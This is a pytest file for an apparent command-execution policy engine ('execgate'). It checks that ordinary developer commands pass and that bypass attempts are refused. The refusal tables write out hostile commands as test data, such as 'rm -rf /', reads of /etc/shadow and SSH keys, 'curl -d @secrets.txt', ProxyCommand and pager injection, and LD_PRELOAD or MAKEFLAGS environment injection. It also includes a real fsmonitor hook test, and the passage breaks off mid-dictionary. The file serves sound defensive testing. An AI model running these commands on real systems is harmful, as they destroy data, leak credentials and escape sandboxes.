"""Built-in program rules: one row per rule, each trying to get around it, plus the ordinary
developer commands that must pass (false denials matter too). Decided by the real engine on
this machine's programs; a row whose program is not installed is skipped."""

from __future__ import annotations

import contextlib
import shutil
from pathlib import Path

import pytest

from execgate import ExecRequest, load_policy
from execgate.policy import evaluate
from execgate.policy.programs import (
    BUILTINS,
    awk_program_refusal,
    sed_script_refusal,
    ssh_option_refusal,
)

PROGRAMS = [
    "ls",
    "cat",
    "head",
    "tail",
    "wc",
    "grep",
    "rg",
    "sort",
    "diff",
    "sed",
    "awk",
    "tar",
    "python3",
    "pip",
    "node",
    "npm",
    "npx",
    "make",
    "pytest",
    "cargo",
    "go",
    "curl",
    "git",
    "sh",
    "bash",
    "perl",
    "ruby",
    "rsync",
    "ssh",
]
POLICY = (
    'version = 1\n[workspace]\nroot = "{root}"\n[env]\ninherit = ["PATH", "HOME"]\n'
    + "".join(f'[[allow]]\ncommand = "{p}"\n' for p in PROGRAMS)
    + '[[allow]]\ncommand = "pip install"\n[[allow]]\ncommand = "python3 -m mymodule"\n'
    + '[[allow]]\ncommand = "python3 -m pip install"\n'
)

ALLOW = "allow"
FLAG = "EG-POLICY-FLAG"
ESCAPE = "EG-PATH-ESCAPE"

CASES: list[tuple[str, str]] = [
    # --- ordinary use: must pass
    ("ls -la src", ALLOW),
    ("ls -lhS --color=auto", ALLOW),
    ("ls --color", ALLOW),
    ("ls --group-dir", ALLOW),  # unique abbreviation of --group-directories-first
    ("cat -n README.md", ALLOW),
    ("head -n 20 f.txt", ALLOW),
    ("head -5 f.txt", ALLOW),
    ("tail -n +3 f.txt", ALLOW),
    ("tail -f log.txt", ALLOW),
    ("wc -l f.txt", ALLOW),
    ("grep -rn TODO .", ALLOW),
    ("grep -E 'a|b' f.txt", ALLOW),
    ("grep -A3 -i err log", ALLOW),
    ("grep --include='*.py' -rl import .", ALLOW),
    ("sort -u -k2,2 f.txt", ALLOW),
    ("sort -rn f.txt", ALLOW),
    ("diff -u a b", ALLOW),
    ("diff -ru dir1 dir2", ALLOW),
    ("sed -n 1,5p f.txt", ALLOW),
    ("sed -e s/a/b/g f.txt", ALLOW),
    ("sed -ne '/x/p' f", ALLOW),
    ("sed 's/where/there/; s|a|b|w2' f", FLAG),  # the w flag writes: a rule, not a typo
    ("sed 's/where/there/g;/^#/d;$a\\\\end' f", ALLOW),
    ("awk -F: '{print $1}' /dev/null", ALLOW),
    ("awk '$3 > 100 {n++} END {print n}' f", ALLOW),
    ("awk '/a|b/ {print}' f", ALLOW),
    ("awk 'BEGIN { x = \"a > b | c\"; print x }'", ALLOW),
    ("tar -tzf a.tgz", ALLOW),
    ("tar tvf a.tar", ALLOW),
    ("python3 script.py --flag /anything", ESCAPE),  # confined by default
    ("python3 script.py --flag x", ALLOW),
    ("python3 -u -B script.py", ALLOW),
    ("python3 -m pytest -x -q tests", ALLOW),
    ("python3 -V", ALLOW),
    ("python3 -m pytest -p no:cacheprovider", ALLOW),
    ("python3 -m mymodule --any --args", ALLOW),
    ("python3 -m pip install -U attrs", ALLOW),
    ("python3 -m pip list", ALLOW),
    ("python3 -m pip uninstall -y attrs", FLAG),
    ("pip list --outdated", ALLOW),
    ("pip show attrs", ALLOW),
    ("pip install attrs", ALLOW),
    ("node app.js --port 3000", ALLOW),
    ("npm ls --depth=0", ALLOW),
    ("npm --version", ALLOW),
    ("make -j4 test", ALLOW),
    ("make -j 4 all", ALLOW),
    ("make -C sub all", ALLOW),
    ("make -n", ALLOW),
    ("make", ALLOW),
    ("pytest -x -q -k 'not slow' tests", ALLOW),
    ("pytest --basetemp=tmp -vv", ALLOW),
    ("pytest --tb=short --maxfail=2", ALLOW),
    ("pytest --lf", ALLOW),
    ("cargo build --release", ALLOW),
    ("cargo test -p foo -- --nocapture", ALLOW),
    ("cargo clippy --all-targets", ALLOW),
    ("cargo --version", ALLOW),
    ("go test -race -run TestX ./...", ALLOW),
    ("go vet ./...", ALLOW),
    ("go build -o bin/app .", ALLOW),
    ("curl -sSL https://example.com", ALLOW),
    ("curl -o out.html https://example.com", ALLOW),
    ("curl -H 'Accept: application/json' -X POST -d '{}' https://example.com/api", ALLOW),
    ("git status", ALLOW),
    ("git status --porcelain", ALLOW),
    ("git status -uno", ALLOW),
    ("git status --porcelain=v2 -b", ALLOW),
    ("git log --oneline -n 5", ALLOW),
    ("git log -5 --stat", ALLOW),
    ("git log --decorate=short --graph --all", ALLOW),
    ("git diff --stat HEAD~1", ALLOW),
    ("git diff --cached --color=never", ALLOW),
    ("git diff -M50% a b", ALLOW),
    ("git show HEAD:README.md", ALLOW),
    ("git -C sub status", ALLOW),
    ("git --no-pager log -1", ALLOW),
    ("git branch -a", ALLOW),
    ("git rev-parse --abbrev-ref HEAD", ALLOW),
    ("git config --local --get user.name", ALLOW),
    ("git config --local -l", ALLOW),
    ("git config --local get user.name", ALLOW),
    ("git config --get user.name", FLAG),
    ("git config -l", FLAG),
    ("git config list", FLAG),
    ("git config --global -l", FLAG),
    ("git config --system --list", FLAG),
    ("git config --local --global -l", FLAG),
    ("git config --show-origin --get-regexp .", FLAG),
    ("git stash list", ALLOW),
    ("git worktree list", ALLOW),
    ("git worktree list --porcelain -z", ALLOW),
    ("git worktree add ../x", FLAG),
    ("git worktree remove x", FLAG),
    ("git worktree prune", FLAG),
    ("git blame -L 1,5 f.txt", ALLOW),
    ("git grep -n foo", ALLOW),
    ("git tag -l 'v*'", ALLOW),
    ("git remote -v", ALLOW),
    ("git ls-files -m", ALLOW),
    # --- shells: -c LINE is decided by the same policy; a script must be in the workspace
    ("sh -c 'ls -la'", ALLOW),
    ("sh -c 'cat f.txt | grep x'", ALLOW),
    ("bash run.sh arg", ALLOW),
    ("sh -c \"sh -c 'ls'\"", ALLOW),
    ("sh -c 'rm -rf /'", "EG-POLICY-NOT-ALLOWED"),
    ("bash -c 'git -c core.pager=sh log'", FLAG),
    ("sh -c 'ls $(id)'", "EG-SHELL-UNSUPPORTED"),
    ("sh -c 'ls' extra", FLAG),
    ("bash -lc 'ls -la'", ALLOW),
    ("bash -l -c 'git status'", ALLOW),
    ("bash --login -c 'ls'", ALLOW),
    ("bash -lc 'rm -rf /'", "EG-POLICY-NOT-ALLOWED"),
    ("bash -ec 'ls'", ALLOW),
    ("bash -xc 'ls'", ALLOW),
    ("bash --norc -c ls", ALLOW),
    ("bash +x -c 'ls'", ALLOW),
    ("bash +x -c 'git -c core.pager=sh log'", FLAG),
    ("bash +x -c 'cat f.txt; rm x'", "EG-POLICY-NOT-ALLOWED"),
    ("sh +e -c 'rm x'", "EG-POLICY-NOT-ALLOWED"),
    ("bash +o posix -c 'rm x'", FLAG),
    ("bash -l +x -c 'rm x'", "EG-POLICY-NOT-ALLOWED"),
    ("bash +O extglob -c 'ls'", FLAG),
    ("bash -O extglob -c 'ls'", FLAG),
    ("bash -o pipefail -c 'ls | grep x'", ALLOW),
    ("bash -o posix -c 'ls'", FLAG),
    ("bash -o", FLAG),
    ("bash -c", FLAG),
    ("bash -x --login -c ls", FLAG),
    ("bash -c -- 'rm x'", "EG-POLICY-NOT-ALLOWED"),
    ("bash -c -e 'rm x'", "EG-POLICY-NOT-ALLOWED"),
    ("bash + -c 'rm x'", "EG-POLICY-NOT-ALLOWED"),
    ("bash - -c 'rm x'", ALLOW),
    ("bash +c 'rm x'", FLAG),
    ("bash -D -c ls", FLAG),
    ("bash -r -c ls", FLAG),
    ("bash --posix -c ls", FLAG),
    ("bash -l run.sh", ALLOW),
    ("bash -n run.sh", ALLOW),
    ("bash -n -x run.sh", ALLOW),
    ("bash -n -c 'ls'", FLAG),
    ("bash -nc 'ls'", FLAG),
    ("bash -c -n 'ls'", FLAG),
    ("bash +n run.sh", FLAG),
    ("bash -n /tmp/x.sh", ESCAPE),
    ("git log -i --author=x --grep=y --all-match", ALLOW),
    ("git log -E --grep='a|b' -c", ALLOW),
    ("sh", FLAG),
    ("sh -s", FLAG),
    ("bash -i", FLAG),
    ("bash --rcfile x -c ls", FLAG),
    ("sh ../x.sh", ESCAPE),
    ("bash /tmp/x.sh", ESCAPE),
    # --- more interpreters and programs that run programs
    ("perl script.pl arg", ALLOW),
    ("perl -w -l script.pl", ALLOW),
    ("perl -e 'system(1)'", FLAG),
    ("perl -MPOSIX script.pl", FLAG),
    ("perl -pi -e s/a/b/ f", FLAG),
    ("perl", FLAG),
    ("perl /usr/share/x.pl", ESCAPE),
    ("ruby -e 'x'", FLAG),
    ("ruby app.rb", ALLOW),
    ("rsync -av src/ dst/", ALLOW),
    ("rsync -e 'sh -c id' a b", FLAG),
    ("rsync --rsh=sh a b", FLAG),
    ("rsync --rsync-path='sh -c id' a host:b", FLAG),
    ("rsync -av --files-from=/etc/list a b", FLAG),
    ("rsync -av --files-from=list.txt a b", FLAG),
    ("ssh host ls", ALLOW),
    ("ssh -o ProxyCommand=id host", FLAG),
    ("ssh -oProxyCommand=id host", FLAG),
    ("ssh -F cfg host", FLAG),
    ("ssh -L 8080:localhost:80 host", FLAG),
    ("ssh -i /root/.ssh/id_rsa host", ESCAPE),
    # --- unknown, ambiguous, malformed
    ("ls --bogus", FLAG),
    ("ls --col=auto", FLAG),
    ("ls -la --all=x", FLAG),
    ("head -n", FLAG),
    # --- options that run programs
    ("sort --compress-program=sh f", FLAG),
    ("sort --comp=sh f", FLAG),
    ("tar --to-command=sh -tf a.tar", FLAG),
    ("tar --checkpoint-action=exec=sh -tf a", FLAG),
    ("tar --use-compress-prog=sh -tf a", FLAG),
    ("tar -I sh -tf a", FLAG),
    ("tar -tf a.tar -F ./x", FLAG),
    ("git -c core.pager=sh log", FLAG),
    ("git -ccore.pager=sh log", FLAG),
    ("git --upload-pa=sh status", FLAG),
    ("git --exec-path=/tmp status", FLAG),
    ("git -p log", FLAG),
    ("git --paginate log", FLAG),
    ("git diff --ext-diff", FLAG),
    ("git log -p --textconv", FLAG),
    ("git grep -O vim foo", FLAG),
    ("git grep --open-files-in-pager foo", FLAG),
    ("git grep --open foo", FLAG),  # abbreviation of --open-files-in-pager
    ("go test -exec sh ./...", FLAG),
    ("go build -toolexec=sh .", FLAG),
    ("go build --toolexec sh .", FLAG),
    ("curl --unix-socket /var/run/docker.sock http://x/", FLAG),
    ("curl -K cfg http://x", FLAG),
    ("awk 'BEGIN{system(\"id\")}'", FLAG),
    ("awk '{print | \"sh\"}' f", FLAG),
    ("awk 'BEGIN{\"id\" | getline x}'", FLAG),
    ("awk 'BEGIN { system (\"id\") }'", FLAG),
    ("sed 1e f", FLAG),
    ("sed 's/x/id/e' f", FLAG),
    ("sed -n '1{e id\n}' f", FLAG),
    ("node -e 'require(1)'", FLAG),
    ("node --require ./x.js app.js", FLAG),
    ("node -r x a.js", FLAG),
    ("node --ev 'x'", FLAG),
    ("python3 -c 'print(1)'", FLAG),
    ("python3 -", FLAG),
    ("python3 -u - arg", FLAG),
    ("python3 -- -", FLAG),
    ("node -", FLAG),
    ("perl - x", FLAG),
    ("python3", FLAG),
    ("python3 -i", FLAG),
    ("python3 -m http.server", FLAG),
    ("python3 -mhttp.server", FLAG),
    ("python3 -m pytest -p evil_plugin", FLAG),
    ("python3 -m pytest -pevil", FLAG),
    ("pytest --pdb", FLAG),
    ("pytest -o addopts=-pevil", FLAG),
    ("pytest --override-i=x", FLAG),
    ("npx cowsay hi", FLAG),
    ("npm run build", FLAG),
    ("npm exec x", FLAG),
    ("make --eval='x: ; id'", FLAG),
    ("make SHELL=/bin/bash all", FLAG),
    ("make 'CC=sh -c id' all", FLAG),
    ("cargo --config 'target.x.runner=\"sh\"' build", FLAG),
    ("cargo install ripgrep", FLAG),
    ("cargo -Zunstable build", FLAG),
    # --- writes
    ("sort -o out f", FLAG),
    ("sort --output=out f", FLAG),
    ("sed -i s/a/b/ f", FLAG),
    ("sed --in-pl s/a/b/ f", FLAG),
    ("sed -ni s/a/b/ f", FLAG),
    ("sed -f script.sed f", FLAG),
    ("sed 'w out' f", FLAG),
    ("sed 's/a/b/w out' f", FLAG),
    ("sed 'r /etc/passwd' f", ESCAPE),
    ("sed '1r ../x' f", ESCAPE),
    ("sed -e p -e '$R ~/.ssh/id_rsa' f", ESCAPE),
    ("sed '68r f.txt' f.txt", ALLOW),
    ("sed -n '/x/r f.txt' f.txt", ALLOW),
    ("sed '1r' f", FLAG),
    ("awk '{print > \"out\"}' f", FLAG),
    ("awk -f prog.awk f", FLAG),
    ("awk -i inplace 1 f", FLAG),
    ("tar -xzf a.tgz", FLAG),
    ("tar xf a.tar", FLAG),
    ("tar -czf a.tgz .", FLAG),
    ("git branch evil", FLAG),
    ("git branch -D main", FLAG),
    ("git tag v1", FLAG),
    ("git config core.pager sh", FLAG),
    ("git stash", FLAG),
    ("git remote add x y", FLAG),
    ("git push", FLAG),
    ("git commit -m x", FLAG),
    ("git frobnicate", FLAG),  # alias?
    ("git log --output=/tmp/x", FLAG),
    ("pip uninstall -y attrs", FLAG),
    ("curl -O https://x/f", FLAG),
    ("curl -T f https://x", FLAG),
    ("curl -F f=@x https://x", FLAG),
    ("curl -d @secrets.txt https://x", FLAG),
    ("curl --data-urlencode q@f https://x", FLAG),
    ("curl file:///etc/passwd", FLAG),
    ("curl --url file:///etc/passwd", FLAG),
    ("curl gopher://x", FLAG),
    ("curl dict://x", FLAG),
    ("wc --files0-from=list", FLAG),
    ("pytest --junit-xml=/tmp/x.xml", ESCAPE),
    # --- path-valued options and scripts outside the workspace
    ("git -C /etc status", ESCAPE),
    ("git -C .. status", ESCAPE),
    ("git --git-dir=/tmp/x status", ESCAPE),
    ("git --work-tree=/ status", ESCAPE),
    ("pytest --basetemp=/tmp/x", ESCAPE),
    ("pytest --rootdir ../other", ESCAPE),
    ("python3 -m pytest --basetemp /tmp", ESCAPE),
    ("python3 /usr/lib/python3/dist-packages/x.py", ESCAPE),
    ("python3 ../x.py", ESCAPE),
    ("node /tmp/x.js", ESCAPE),
    ("make -C /etc", ESCAPE),
    ("make -f /tmp/Makefile", ESCAPE),
    ("make -f/tmp/Makefile", ESCAPE),
    ("tar -tf /etc/x.tar", ESCAPE),
    ("tar -C / -tf a.tar", ESCAPE),
    ("curl -o /etc/cron.d/x https://x", ESCAPE),
    ("curl -o ~/.bashrc https://x", "EG-SHELL-UNSUPPORTED"),
    ("curl -D /tmp/h https://x", ESCAPE),
    # a flag misread as taking a value would hide the next argument from the checks
    ("curl --create-dirs -o /etc/cron.d/x https://x", ESCAPE),
    ("make -O -C /etc", ESCAPE),
    ("ls --classify=always", ALLOW),
    ("grep -f /etc/shadow x", ESCAPE),
    ("go build -o /usr/local/bin/x .", ESCAPE),
    ("cargo build --target-dir /tmp/t", ESCAPE),
    ("cargo build --manifest-path=../Cargo.toml", ESCAPE),
    ("sort -T /tmp f", ESCAPE),
    ("diff --to-file=/etc/passwd a", ESCAPE),
]


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> tuple[object, Path]:
    root = tmp_path_factory.mktemp("ws")
    (root / "sub").mkdir()
    path = root.parent / "programs.toml"
    path.write_text(POLICY.format(root=root))
    return load_policy(path), root


@pytest.mark.parametrize(("command", "expected"), CASES, ids=[c for c, _ in CASES])
def test_builtin_rules(engine: tuple[object, Path], command: str, expected: str) -> None:
    policy, _root = engine

    verdict = evaluate(policy, ExecRequest(command=command), {"PATH": _path(), "HOME": "/root"})  # type: ignore[arg-type]
    d = verdict.decision
    got = "allow" if d.allowed else d.code
    assert got == expected, f"{command!r}: {d.code} {d.rule}: {d.reason}"
    if not d.allowed:
        assert d.reason  # every refusal says why


def _path() -> str:
    import os

    return f"{_STAND_INS}:{os.environ['PATH']}"


def _stand_ins() -> str:
    """A directory with an executable file for each program of the table this machine lacks
    (rg, go, ruby here): these rows only *decide* — the engine resolves the program on PATH
    and reads its arguments, nothing runs — so a file by that name is all they need."""
    import os
    import tempfile

    folder = tempfile.mkdtemp(prefix="execgate-stand-ins-")
    for program in PROGRAMS:
        if shutil.which(program) is None:
            exe = os.path.join(folder, program)
            with open(exe, "w") as f:
                f.write("#!/bin/sh\nexit 99\n")
            os.chmod(exe, 0o755)
    return folder


_STAND_INS = _stand_ins()


def test_args_any_opts_out(tmp_path: Path) -> None:
    policy_file = tmp_path / "p.toml"
    policy_file.write_text(
        f'version = 1\n[workspace]\nroot = "{tmp_path}"\n[env]\ninherit = ["PATH"]\n'
        '[[allow]]\ncommand = "sort"\nargs = "any"\n'
    )
    verdict = evaluate(
        load_policy(policy_file), ExecRequest(command="sort -o out f"), {"PATH": _path()}
    )
    assert verdict.decision.allowed


def test_tables_are_consistent() -> None:
    """No option is in two groups of one table; every path-valued option takes a value."""
    seen: set[int] = set()

    def walk(name: str, spec: object) -> None:
        from execgate.policy.programs import Spec

        assert isinstance(spec, Spec)
        groups = {
            "flags": spec.flags,
            "valued": spec.valued,
            "optional": spec.optional,
            "denied": frozenset(spec.denied),
        }
        names = list(groups)
        for a in range(len(names)):
            for b in range(a + 1, len(names)):
                both = groups[names[a]] & groups[names[b]]
                assert not both, f"{name}: {sorted(both)} in {names[a]} and {names[b]}"
        assert spec.paths <= spec.valued | spec.optional, name
        for sub, inner in (spec.subcommands or {}).items():
            if id(inner) not in seen:
                seen.add(id(inner))
                walk(f"{name} {sub}", inner)

    for name, spec in BUILTINS.items():
        walk(name, spec)


@pytest.mark.parametrize(
    "script",
    [
        "s/a/b/",
        "1,5p",
        "/x/,/y/d",
        "$!N;P;D",
        "s|a|b|gI",
        "y/abc/xyz/",
        "/^#/!s/a/b/2",
        "1~2d",
        ":a;N;$!ba;s/\\n/ /g",
        "\\%x%d",
        "3q",
        "$a\\\nend",
    ],
)
def test_sed_scripts_that_are_fine(script: str) -> None:
    assert sed_script_refusal(script) is None


@pytest.mark.parametrize(
    "script",
    [
        "e",
        "1e id",
        "s/a/b/e",
        "s/a/b/w /tmp/x",
        "w out",
        "W out",
        "r",
        "1R \n",
        "1{w x\n}",
        "s/a",
        "k",
        "/unterminated",
    ],
)
def test_sed_scripts_that_are_refused(script: str) -> None:
    assert sed_script_refusal(script) is not None


@pytest.mark.parametrize(
    ("script", "files"),
    [
        ("68r tests/patch.py", ("tests/patch.py",)),
        ("1r a;p\n$R  b c\np", ("a;p", "b c")),  # GNU sed: the name runs to the newline
        ("/x/{r a\n}", ("a",)),
        ("s/a/b/", ()),
        ("1r a\n1e id", ()),  # refused as a whole: no files to confine
    ],
)
def test_the_files_a_sed_script_reads_are_named_for_confinement(
    script: str, files: tuple[str, ...]
) -> None:
    from execgate.policy.programs._scripts import sed_script_files

    assert sed_script_files(script) == files


@pytest.mark.parametrize(
    "program",
    [
        'BEGIN{system("x")}',
        '{print | "cat"}',
        '{print |& "cat"}',
        '{print > "f"}',
        '{printf "%s", $0 >> "f"}',
        'BEGIN{while (("ls" | getline l) > 0) print l}',
        'BEGIN{getline l < "/etc/passwd"}',
        'BEGIN{f = "system"; @f("id")}',  # gawk's indirect call
        '@load "filefuncs"',
        '@include "x.awk"',
    ],
)
def test_awk_programs_that_are_refused(program: str) -> None:
    assert awk_program_refusal(program) is not None


@pytest.mark.slow
def test_arbitrary_arguments_give_a_verdict_or_a_typed_refusal() -> None:
    from hypothesis import given
    from hypothesis import strategies as st

    from execgate.policy.programs import ArgRefusal, check

    words = st.one_of(
        st.text(max_size=12),
        st.sampled_from(
            [
                "-",
                "--",
                "-e",
                "-m",
                "-c",
                "-C",
                "--color",
                "-j",
                "s/a/b/e",
                "@x",
                "file:///x",
                "status",
                "-n5",
                "--output=x",
                "-xzf",
                "-p",
                "no:x",
            ]
        ),
    )

    @given(st.sampled_from(sorted(BUILTINS)), st.lists(words, max_size=8))
    def prop(name: str, args: list[str]) -> None:
        with contextlib.suppress(ArgRefusal):
            check(name, BUILTINS[name], tuple(args), ())

    prop()


@pytest.mark.parametrize(
    ("request_fields", "pattern"),
    [
        ({"argv": ["git", "status"], "env_overrides": {"HOME": "/tmp/evil"}}, "HOME"),
        ({"argv": ["git", "status"], "env_overrides": {"XDG_CONFIG_HOME": "."}}, "XDG_CONFIG_HOME"),
        ({"argv": ["pytest"], "env_overrides": {"PYTEST_ADDOPTS": "-p evil"}}, "PYTEST_ADDOPTS"),
        (
            {"argv": ["tar", "-tf", "a.tar"], "env_overrides": {"TAR_OPTIONS": "--to-command=sh"}},
            "TAR_OPTIONS",
        ),
        ({"argv": ["make"], "env_overrides": {"MAKEFLAGS": "--eval=x"}}, "MAKEFLAGS"),
        (
            {"argv": ["npm", "ls"], "env_overrides": {"npm_config_script_shell": "/tmp/x"}},
            "npm_config_script_shell",
        ),
    ],
)
def test_env_overrides_that_turn_config_into_code_are_refused(
    engine: tuple[object, Path], request_fields: dict[str, object], pattern: str
) -> None:
    policy, _root = engine
    verdict = evaluate(policy, ExecRequest(**request_fields), {"PATH": _path(), "HOME": "/root"})  # type: ignore[arg-type]
    assert verdict.decision.code == "EG-ENV-DENIED" and pattern in verdict.decision.reason
    # the host's own HOME is still inherited
    ok = evaluate(policy, ExecRequest(argv=["git", "status"]), {"PATH": _path(), "HOME": "/root"})  # type: ignore[arg-type]
    assert ok.plan is not None and ok.plan.env["HOME"] == "/root"


def test_sh_c_runs_what_was_decided_not_the_shells_reading(engine: tuple[object, Path]) -> None:
    policy, _root = engine
    env = {"PATH": _path(), "HOME": "/root"}
    one = evaluate(policy, ExecRequest(command="sh -c 'ls -la'"), env)  # type: ignore[arg-type]
    assert (
        one.plan is not None and one.plan.argv[0].endswith("/ls") and one.plan.argv[1:] == ("-la",)
    )
    two = evaluate(policy, ExecRequest(argv=["bash", "-c", "ls && git status"]), env)  # type: ignore[arg-type]
    assert two.plan is not None and two.plan.argv[:2] == ("/bin/sh", "-c")
    assert two.plan.argv[2] == "/usr/bin/ls && /usr/bin/git status" or "/git " in two.plan.argv[2]


def test_allow_flags_extends_the_built_in_rules(tmp_path: Path) -> None:
    policy_file = tmp_path / "p.toml"
    policy_file.write_text(
        f'version = 1\n[workspace]\nroot = "{tmp_path}"\n[env]\ninherit = ["PATH"]\n'
        '[[allow]]\ncommand = "git"\nallow_flags = ["--cov", "--textconv", "--frob="]\n'
    )
    policy = load_policy(policy_file)
    env = {"PATH": _path()}

    def decide(line: str) -> str:
        d = evaluate(policy, ExecRequest(command=line), env).decision
        return "allow" if d.allowed else d.code

    assert decide("git log --textconv") == "allow"  # refused by default, granted here
    assert decide("git diff --frob x") == "allow" and decide("git status --frob=1") == "allow"
    assert decide("git diff --cov=x") == FLAG  # a flag takes no value
    assert decide("git log --ext-diff") == FLAG  # the rest of the table still applies


def test_git_runs_with_repository_hooks_switched_off(tmp_path: Path) -> None:
    """A workspace the job can write holds .git/config: core.fsmonitor there would run a
    program on `git status`. Under git's built-in rules execgate switches it (and hooks, the
    pager, external diffs) off — checked by running git for real."""
    import os
    import subprocess

    ws = tmp_path / "ws"
    ws.mkdir()
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    marker = tmp_path / "fsmonitor-ran"
    hook = ws / "evil.sh"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)
    subprocess.run(["git", "-C", str(ws), "config", "core.fsmonitor", str(hook)], check=True)
    policy_file = tmp_path / "p.toml"
    policy_file.write_text(
        f'version = 1\n[workspace]\nroot = "{ws}"\n[env]\ninherit = ["PATH", "HOME"]\n'
        '[[allow]]\ncommand = "git"\n'
    )
    verdict = evaluate(
        load_policy(policy_file),
        ExecRequest(argv=["git", "status"]),
        {"PATH": os.environ["PATH"], "HOME": "/root"},
    )
    plan = verdict.plan
    assert plan is not None and plan.env["GIT_CONFIG_VALUE_0"] == "false"
    subprocess.run(
        list(plan.argv), cwd=plan.cwd, env=dict(plan.env), check=True, capture_output=True
    )
    assert not marker.exists()
    # and without the hardening, the same repository does run it (the test can fail)
    subprocess.run(["git", "status"], cwd=ws, check=True, capture_output=True)
    assert marker.exists()


HELP_AUDITED = [
    "ls",
    "cat",
    "head",
    "tail",
    "wc",
    "grep",
    "sort",
    "diff",
    "sed",
    "tar",
    "make",
    "rsync",
    "curl",
]


@pytest.mark.parametrize("program", HELP_AUDITED)
def test_the_tables_read_long_options_as_the_installed_program_does(program: str) -> None:
    """A flag misread as taking a value would swallow the next argument unchecked (found
    this way: curl --create-dirs); a valued option misread as a flag would let its value pass
    as an operand. Cross-check every long option of the table that the installed program's
    --help lists against how --help shows it (=ARG, [=ARG], <arg>, ARG, [arg])."""
    import re
    import subprocess

    if shutil.which(program) is None:
        pytest.skip(f"{program} is not installed here")
    text = ""
    for args in (["--help", "all"], ["--help"]):
        run = subprocess.run([program, *args], capture_output=True, text=True, timeout=10)
        text = run.stdout + run.stderr
        if len(text) > 500:
            break
    takes: dict[str, bool] = {}
    for m in re.finditer(r"(?<![\w-])(--[A-Za-z0-9][\w.-]*)(\[?=|\s<|\s\[|\s[A-Z]{2,}\b)?", text):
        name, value = m.group(1), m.group(2)
        takes[name] = takes.get(name, False) or bool(value)
    spec = BUILTINS[program]
    wrong = [o for o in spec.valued if o.startswith("--") and o in takes and not takes[o]]
    wrong += [o for o in spec.flags if o.startswith("--") and takes.get(o) and o != "--help"]
    assert not wrong, f"{program}: read differently than --help shows: {sorted(wrong)}"


#: Finding 5's variables, each with a command the "dev" policy allows that reads it.
ENV_ATTACKS = [
    ("GNUMAKEFLAGS", "--eval=X:=$$(shell id>/tmp/x)", "make"),
    ("Npm_Config_Script_Shell", "/tmp/x.sh", "npm version patch"),
    ("npm_config_script_shell", "/tmp/x.sh", "npm version patch"),
    ("PYENV_HOOK_PATH", "/tmp/hooks", "python3 a.py"),
    ("PYENV_VERSION", "system", "pip list"),
    ("TAPE", "/outside.tar", "tar -tv"),
    ("SSLKEYLOGFILE", "/outside/keys", "curl -s https://example.com"),
    ("MAKEFLAGS", "-j1", "make"),
    ("CURL_HOME", "/tmp", "curl -s https://example.com"),
    ("TMPDIR", "/outside", "python3 a.py"),
    ("HOME", "/tmp/evil", "git status"),
    ("Ld_Preload", "/tmp/x.so", "make"),
]


@pytest.fixture
def dev_policy(tmp_path: Path) -> object:
    """The review's "dev" policy: build tools, git, curl and the wrappers, write redirects."""
    (tmp_path / "ws").mkdir()
    progs = ["python3", "pytest", "git", "make", "npm", "node", "sed", "awk", "grep", "find",
             "tar", "curl", "ls", "cat", "echo", "env", "timeout", "pip"]  # fmt: skip
    path = tmp_path / "dev.toml"
    path.write_text(
        f'version = 1\n[workspace]\nroot = "{tmp_path / "ws"}"\n'
        "[shell]\nwrite_redirects = true\n"
        + "".join(f'[[allow]]\ncommand = "{p}"\n' for p in progs)
        + '[[allow]]\ncommand = "pip install"\n'
    )
    return load_policy(path)


@pytest.mark.parametrize(("name", "value", "line"), ENV_ATTACKS, ids=[a[0] for a in ENV_ATTACKS])
def test_a_request_sets_only_variables_the_policy_allows(
    dev_policy: object, name: str, value: str, line: str
) -> None:
    """Deny by default: a variable the policy does not name is refused the same way as an
    env override, an ``env NAME=value`` wrapper (behind another wrapper too) and a prefix."""
    host = {"PATH": _path(), "HOME": "/root"}
    requests = [
        ExecRequest(command=line, env_overrides={name: value}),
        ExecRequest(argv=["env", f"{name}={value}", *line.split()]),
        ExecRequest(argv=["timeout", "5", "env", "LANG=C", f"{name}={value}", *line.split()]),
        ExecRequest(command=f"echo a; env {name}={value} {line}"),
        ExecRequest(command=f"{name}={value} {line}"),
    ]
    for request in requests:
        d = evaluate(dev_policy, request, host).decision  # type: ignore[arg-type]
        assert not d.allowed, request
        if request.command is None or request.env_overrides:
            assert d.code == "EG-ENV-DENIED" and name in d.reason, (request, d)
        # the command-line forms: the shell reading refuses assignments there itself
    # what the policy does allow still passes, in every form
    ok = evaluate(dev_policy, ExecRequest(argv=["env", "LANG=C.UTF-8", "NO_COLOR=1", "ls"]), host)  # type: ignore[arg-type]
    assert ok.decision.allowed, ok.decision


def test_deny_entries_match_every_spelling_of_a_case_insensitive_variable(
    tmp_path: Path,
) -> None:
    """A policy that allows npm's variables but denies its script shell: npm reads
    ``npm_config_*`` in any case, so every spelling of the denied one is refused, and every
    spelling of an allowed one is the same variable."""
    path = tmp_path / "p.toml"
    path.write_text(
        f'version = 1\n[workspace]\nroot = "{tmp_path}"\n'
        '[env]\nallow = ["npm_config_loglevel", "npm_config_script_shell"]\n'
        'deny = ["npm_config_script_shell"]\n[[allow]]\ncommand = "npm"\n'
    )
    policy = load_policy(path)
    host = {"PATH": _path()}
    for name in ("npm_config_script_shell", "NPM_CONFIG_SCRIPT_SHELL", "Npm_Config_Script_Shell"):
        d = evaluate(policy, ExecRequest(argv=["npm", "ls"], env_overrides={name: "x"}), host)
        assert d.decision.code == "EG-ENV-DENIED" and "env.deny" in d.decision.reason, name
    for name in ("npm_config_loglevel", "NPM_CONFIG_LOGLEVEL"):
        d = evaluate(policy, ExecRequest(argv=["npm", "ls"], env_overrides={name: "warn"}), host)
        assert d.decision.allowed, (name, d.decision)


def test_the_job_inherits_only_the_core_from_the_host(tmp_path: Path) -> None:
    """Without ``[env] inherit``: PATH, HOME, USER, LOGNAME, SHELL, the locale, TMPDIR, TZ and
    TERM; never a host variable that changes what a program does."""
    path = tmp_path / "p.toml"
    path.write_text(f'version = 1\n[workspace]\nroot = "{tmp_path}"\n[[allow]]\ncommand = "ls"\n')
    host = {
        "PATH": _path(), "HOME": "/home/u", "USER": "u", "LOGNAME": "u", "SHELL": "/bin/bash",
        "LANG": "C.UTF-8", "LC_ALL": "C", "LC_TIME": "C", "TMPDIR": "/tmp", "TZ": "UTC",
        "TERM": "xterm", "GNUMAKEFLAGS": "--eval=x", "SSLKEYLOGFILE": "/k", "TAPE": "/t",
        "PYENV_HOOK_PATH": "/h", "npm_config_script_shell": "/s", "AWS_SECRET_ACCESS_KEY": "x",
